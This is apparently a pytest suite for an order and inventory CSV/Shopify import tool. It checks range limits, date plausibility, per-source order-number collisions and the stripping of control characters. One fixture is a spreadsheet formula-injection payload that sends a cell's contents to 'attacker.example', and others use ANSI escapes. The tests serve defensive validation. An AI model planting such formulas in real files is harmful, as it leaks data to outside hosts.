"""Values an import must refuse or clean whatever the source: out-of-range numbers, implausible dates,
control characters in text, and order numbers that belong to another source.

Each case failed before the rules in ``ops.ingest.reader`` (plausibility) and the per-source order
keys (``ops.ingest.shopify``, ``csv_tables``, ``olist``) existed; every refusal is a row error naming
file, line and column, the same on SQLite and PostgreSQL, and leaves the data unchanged.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from ops.access import SYSTEM
from ops.db import transaction
from ops.ingest import ImportError_, run_import
from ops.ingest.reader import (
    EARLIEST_DATE,
    INT32_MAX,
    MAX_EVENT_DAYS_AHEAD,
    MAX_LEAD_TIME_DAYS,
    MAX_PLAN_DAYS_AHEAD,
    clean_text,
    today,
)
from ops.models import Channel, InventorySnapshot, Order, OrderLine, Product, PurchaseOrder, Return, Shipment, Supplier
from tests.test_ingest_csv import contents, import_templates, write
from tests.test_ingest_shopify import export, line, order


def refusal(engine: Engine, kind: str, path: Path) -> list[tuple[str, int, str, str]]:
    """Import ``path`` expecting a refusal that changes nothing; (file, line, column, message) per problem."""
    before = contents(engine)
    with pytest.raises(ImportError_) as ei:
        run_import(engine, kind=kind, paths=[path], viewer=SYSTEM)
    assert contents(engine) == before
    return [(e.file, e.line, e.column, e.message) for e in ei.value.errors]


def day(offset: int) -> str:
    return (today() + dt.timedelta(days=offset)).isoformat()


# --- finding 7: numbers out of range ---------------------------------------------------------------


@pytest.mark.parametrize(("value", "message"), [
    ("99999999999999999999", f"must be at most {MAX_LEAD_TIME_DAYS:,}, got '99999999999999999999'"),
    ("3000000000", f"must be at most {MAX_LEAD_TIME_DAYS:,}, got '3000000000'"),
    ("731", f"must be at most {MAX_LEAD_TIME_DAYS:,}, got '731'"),
    ("-3000000000", "must not be negative, got '-3000000000'"),
    ("9" * 5000, "is a whole number of 5,000 digits: out of range"),
])
def test_supplier_lead_time_out_of_range_is_a_row_error(engine: Engine, tmp_path: Path, value: str,
                                                        message: str) -> None:
    p = write(tmp_path / "s.csv", [["code", "name", "lead_time_days"], ["S1", "ok", "7"], ["S2", "big", value]])
    assert refusal(engine, "csv-suppliers", p) == [("s.csv", 3, "lead_time_days", message)]


def test_lead_time_at_the_limit_loads(engine: Engine, tmp_path: Path) -> None:
    p = write(tmp_path / "s.csv", [["code", "name", "lead_time_days"], ["S1", "ok", str(MAX_LEAD_TIME_DAYS)]])
    run_import(engine, kind="csv-suppliers", paths=[p], viewer=SYSTEM)
    with transaction(engine) as s:
        assert s.execute(select(Supplier.lead_time_days)).scalar_one() == MAX_LEAD_TIME_DAYS


@pytest.mark.parametrize(("column", "value", "message"), [
    ("case_pack", str(INT32_MAX + 1), "must be at most 10,000,000, got '2147483648'"),
    ("moq", "10000001", "must be at most 10,000,000, got '10000001'"),
    ("price", "1e309", "not a finite number: '1e309'"),
    ("price", "nan", "not a number: 'nan'"),
    ("price", "inf", "not a number: 'inf'"),
    ("unit_cost", "1e12", "must be at most 10,000,000, got '1e12'"),
    ("unit_cost", "-0.01", "must not be negative, got '-0.01'"),
    ("price", "1" * 70, "is a number of 70 characters: out of range"),
])
def test_product_numbers_out_of_range(engine: Engine, tmp_path: Path, column: str, value: str, message: str) -> None:
    import_templates(engine, upto="suppliers")
    head = ["sku", "name", "category", column]
    p = write(tmp_path / "p.csv", [head, ["A", "a", "c", "1"], ["B", "b", "c", value]])
    assert refusal(engine, "csv-products", p) == [("p.csv", 3, column, message)]


@pytest.mark.parametrize(("kind", "rows", "where"), [
    ("csv-inventory_snapshots", [["sku", "warehouse_code", "day", "on_hand"], ["00123", "WH-EAST", "2024-01-01",
                                                                              "99999999999"]], (2, "on_hand")),
    ("csv-purchase_orders", [["po_number", "supplier_code", "warehouse_code", "ordered_on", "sku", "qty_ordered"],
                             ["PO-9", "SUP-001", "WH-EAST", "2024-01-01", "00123", "3000000000"]], (2, "qty_ordered")),
    ("csv-carrier_services", [["carrier_code", "code", "name", "promised_days"], ["UPS", "X", "x", "4000"]],
     (2, "promised_days")),
    ("csv-warehouses", [["code", "name", "handling_days"], ["WH-X", "x", "99999999999999999999"]],
     (2, "handling_days")),
])
def test_other_tables_refuse_huge_numbers(engine: Engine, tmp_path: Path, kind: str, rows: list[list[str]],
                                          where: tuple[int, str]) -> None:
    import_templates(engine, upto="products")
    got = refusal(engine, kind, write(tmp_path / "x.csv", rows))
    assert [(ln, col) for _, ln, col, _ in got] == [where]
    assert "must be at most" in got[0][3]


def test_shopify_quantity_out_of_range(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    p = export(tmp_path / "orders_export.csv", [order("#1", **{"Lineitem quantity": "99999999999999999999"})])
    assert refusal(engine, "shopify", p) == [
        ("orders_export.csv", 2, "Lineitem quantity", "must be at most 10,000,000, got '99999999999999999999'")]


# --- finding 5: dates beyond today, or implausibly old -------------------------------------------------------


def test_snapshot_dated_2099_is_refused_and_the_as_of_date_stays(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="inventory_snapshots")
    p = write(tmp_path / "snap.csv", [["sku", "warehouse_code", "day", "on_hand"],
                                      ["00123", "WH-EAST", "2024-03-02", "5"], ["00123", "WH-EAST", "2099-01-01", "5"]])
    got = refusal(engine, "csv-inventory_snapshots", p)
    assert [(f, ln, col) for f, ln, col, _ in got] == [("snap.csv", 3, "day")]
    assert got[0][3].startswith(f"2099-01-01 is more than {MAX_EVENT_DAYS_AHEAD} days after today")
    with transaction(engine) as s:
        last = s.execute(select(InventorySnapshot.day).order_by(InventorySnapshot.day.desc()).limit(1)).scalar_one()
        assert last < today()


def test_shopify_order_dated_2099_is_refused(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    p = export(tmp_path / "orders_export.csv",
               [order("#1"), order("#2", **{"Created at": "2099-01-01 10:00:00 -0500"})])
    got = refusal(engine, "shopify", p)
    assert [(ln, col) for _, ln, col, _ in got] == [(3, "Created at")]


@pytest.mark.parametrize(("offset", "ok"), [(0, True), (MAX_EVENT_DAYS_AHEAD, True), (MAX_EVENT_DAYS_AHEAD + 1, False)])
def test_event_dates_may_be_a_little_ahead_of_today(engine: Engine, tmp_path: Path, offset: int, ok: bool) -> None:
    import_templates(engine, upto="products")
    p = write(tmp_path / "snap.csv", [["sku", "warehouse_code", "day", "on_hand"],
                                      ["00123", "WH-EAST", day(offset), "5"]])
    if ok:
        run_import(engine, kind="csv-inventory_snapshots", paths=[p], viewer=SYSTEM)
    else:
        assert [(ln, col) for _, ln, col, _ in refusal(engine, "csv-inventory_snapshots", p)] == [(2, "day")]


@pytest.mark.parametrize(("expected_on", "ok"), [
    (day(365), True), (day(MAX_PLAN_DAYS_AHEAD), True), (day(MAX_PLAN_DAYS_AHEAD + 1), False), ("2099-01-01", False),
])
def test_expected_po_dates_may_be_future_but_bounded(engine: Engine, tmp_path: Path, expected_on: str,
                                                     ok: bool) -> None:
    import_templates(engine, upto="products")
    p = write(tmp_path / "po.csv", [
        ["po_number", "supplier_code", "warehouse_code", "ordered_on", "expected_on", "sku", "qty_ordered"],
        ["PO-9", "SUP-001", "WH-EAST", day(0), expected_on, "00123", "10"]])
    if ok:
        run_import(engine, kind="csv-purchase_orders", paths=[p], viewer=SYSTEM)
        with transaction(engine) as s:
            got = s.execute(select(PurchaseOrder.expected_on).where(PurchaseOrder.po_number == "PO-9")).scalar_one()
            assert got is not None and got.isoformat() == expected_on
    else:
        assert [(ln, col) for _, ln, col, _ in refusal(engine, "csv-purchase_orders", p)] == [(2, "expected_on")]


@pytest.mark.parametrize("placed_at", ["1999-12-31 23:59", "0024-03-01 10:00", "2099-03-01 10:00"])
def test_orders_placed_long_ago_or_in_the_future_are_refused(engine: Engine, tmp_path: Path, placed_at: str) -> None:
    import_templates(engine, upto="products")
    p = write(tmp_path / "o.csv", [
        ["order_number", "channel_code", "status", "placed_at", "line_no", "sku", "qty", "unit_price"],
        ["N1", "web", "pending", placed_at, "1", "00123", "1", "5"]])
    got = refusal(engine, "csv-orders", p)
    assert [(ln, col) for _, ln, col, _ in got] == [(2, "placed_at")]
    assert ("before " + EARLIEST_DATE.isoformat() in got[0][3]) != placed_at.startswith("2099")


# --- finding 6: order numbers are per source ----------------------------------------------------------------


def _order(engine: Engine, number: str) -> tuple[str, int | None, str, str, int]:
    with transaction(engine) as s:
        o = s.execute(select(Order).where(Order.order_number == number)).scalar_one()
        n_lines = len(s.execute(select(OrderLine.id).where(OrderLine.order_id == o.id)).all())
        channel = s.execute(select(Channel.code).where(Channel.id == o.channel_id)).scalar_one()
        return channel, o.warehouse_id, o.status, o.source, n_lines


def test_shopify_order_named_like_a_csv_order_leaves_it_alone(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="orders")
    before = _order(engine, "100045")
    res = run_import(engine, kind="shopify", viewer=SYSTEM,
                     paths=[export(tmp_path / "orders_export.csv", [order("100045", **{"Fulfillment Status": ""})])])
    assert res.inserted["orders"] == 1
    assert _order(engine, "100045") == before  # channel web, its warehouse, shipped, csv, two lines
    assert _order(engine, "#100045")[0::3] == ("shopify", "shopify")


def test_shopify_order_colliding_with_a_csv_order_is_refused(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    run_import(engine, kind="csv-orders", viewer=SYSTEM, paths=[write(tmp_path / "o.csv", [
        ["order_number", "channel_code", "warehouse_code", "status", "placed_at", "line_no", "sku", "qty",
         "unit_price"], ["#5001", "web", "WH-EAST", "shipped", "2024-03-01 10:00", "1", "00123", "1", "5"]])])
    p = export(tmp_path / "orders_export.csv", [order("#5000"), order("5001")])
    assert refusal(engine, "shopify", p) == [("orders_export.csv", 3, "Name", "order #5001 already exists from "
                                              "source 'csv'; a Shopify import does not change another source's "
                                              "order (rename one of them)")]


def test_csv_order_colliding_with_a_shopify_order_is_refused(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    run_import(engine, kind="shopify", viewer=SYSTEM, paths=[export(tmp_path / "orders_export.csv", [order("#7")])])
    p = write(tmp_path / "o.csv", [
        ["order_number", "channel_code", "status", "placed_at", "line_no", "sku", "qty", "unit_price"],
        ["#7", "web", "pending", "2024-03-01 10:00", "1", "00123", "1", "5"],
        ["#7", "web", "pending", "2024-03-01 10:00", "2", "00123", "1", "5"]])
    got = refusal(engine, "csv-orders", p)
    assert [(ln, col) for _, ln, col, _ in got] == [(2, "order_number")]
    assert "already exists from source 'shopify'" in got[0][3]


def test_hash_and_bare_names_are_the_same_shopify_order(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    fulfilled = {"Fulfillment Status": "fulfilled", "Fulfilled at": "2024-03-02 10:00:00 -0500"}
    run_import(engine, kind="shopify", viewer=SYSTEM,
               paths=[export(tmp_path / "a.csv", [order("#9301", **fulfilled)])])
    res = run_import(engine, kind="shopify", viewer=SYSTEM,
                     paths=[export(tmp_path / "b.csv", [order("9301", **fulfilled)])])
    assert res.rows_changed == 0
    with transaction(engine) as s:
        numbers = s.execute(select(Order.order_number).where(Order.source == "shopify")).scalars().all()
        ship = s.execute(select(Shipment).where(Shipment.tracking_number == "SHOPIFY-9301")).scalar_one()
        assert numbers == ["#9301"]
        assert s.execute(select(Order.order_number).where(Order.id == ship.order_id)).scalar_one() == "#9301"


@pytest.mark.parametrize(("rows", "expected"), [
    ([order("#9301"), order("#9302"), order("9301")],
     (4, "order #9301 appears again; its rows ended on line 2")),
    ([order("#9301"), line("9301")],
     (3, "'9301' is order #9301, written '#9301' on line 2: write every row of an order the same way")),
])
def test_two_spellings_in_one_file_are_a_row_error(engine: Engine, tmp_path: Path, rows: list[dict[str, str]],
                                                   expected: tuple[int, str]) -> None:
    import_templates(engine, upto="products")
    got = refusal(engine, "shopify", export(tmp_path / "orders_export.csv", rows))
    assert [(ln, col, msg) for _, ln, col, msg in got] == [(expected[0], "Name", expected[1])]


def test_shopify_shipment_of_another_order_is_refused(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="shipments")
    run_import(engine, kind="csv-shipments", viewer=SYSTEM, paths=[write(tmp_path / "s.csv", [
        ["tracking_number", "order_number", "shipped_at"], ["SHOPIFY-77", "100045", "2024-03-02 10:00"]])])
    p = export(tmp_path / "orders_export.csv", [order("#77", **{"Fulfillment Status": "fulfilled",
                                                              "Fulfilled at": "2024-03-02 10:00:00 -0500"})])
    got = refusal(engine, "shopify", p)
    assert [(ln, col) for _, ln, col, _ in got] == [(2, "Name")]
    assert "shipment SHOPIFY-77 of order #77 already belongs to order '100045' (source 'csv')" in got[0][3]


# --- finding 1: text from files is stored without control characters -----------------------------------------


@pytest.mark.parametrize(("raw", "stored"), [
    ('\x01=HYPERLINK("http://attacker.example/?"&A1,"click")', '=HYPERLINK("http://attacker.example/?"&A1,"click")'),
    ("Tent\x07 two\tperson\r\nsize", "Tent two person size"),  # NUL: the file is refused (reader)
    ("a\x7fb\x85c\x9fd", "abcd"),
    ("\x1b[31mred", "[31mred"),
    ("Société Générale – ok", "Société Générale – ok"),
])
def test_product_names_are_stored_without_control_characters(engine: Engine, tmp_path: Path, raw: str,
                                                             stored: str) -> None:
    import_templates(engine, upto="suppliers")
    p = tmp_path / "p.csv"
    raw_csv = '"' + raw.replace('"', '""') + '"'
    p.write_text(f"sku,name,category\nX1,{raw_csv},misc\n", encoding="utf-8", newline="")
    run_import(engine, kind="csv-products", paths=[p], viewer=SYSTEM)
    with transaction(engine) as s:
        assert s.execute(select(Product.name).where(Product.sku == "X1")).scalar_one() == stored


def test_multiline_comments_keep_newlines_but_not_other_controls(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="orders")
    p = tmp_path / "r.csv"
    p.write_text('rma_number,order_number,line_no,reason_code,comment\n'
                 'RMA-1,100045,1,\x01too_small,"\x01=1+1\r\nsecond\tline\x07"\n', encoding="utf-8", newline="")
    run_import(engine, kind="csv-returns", paths=[p], viewer=SYSTEM)
    with transaction(engine) as s:
        r = s.execute(select(Return).where(Return.rma_number == "RMA-1")).scalar_one()
        assert (r.reason_code, r.comment) == ("too_small", "=1+1\nsecond\tline")


def test_shopify_names_and_regions_are_cleaned(engine: Engine, tmp_path: Path) -> None:
    import_templates(engine, upto="products")
    run_import(engine, kind="shopify", viewer=SYSTEM, paths=[export(tmp_path / "orders_export.csv", [
        order("\x01#42", **{"Shipping Province": "\x02=NY"})])])
    with transaction(engine) as s:
        assert s.execute(select(Order.customer_region).where(Order.order_number == "#42")).scalar_one() == "=NY"


def test_clean_text_rules() -> None:
    assert clean_text("  a\x00b\x1fc\x7f\x80d\x9f  ") == "abcd"
    assert clean_text("a\tb\nc\rd\r\ne") == "a b c d e"
    assert clean_text("a\tb\nc\rd\r\ne\x0b", multiline=True) == "a\tb\nc\nd\ne"
    assert clean_text("\u200b\u202e") == "\u200b\u202e"  # format characters are not controls: kept
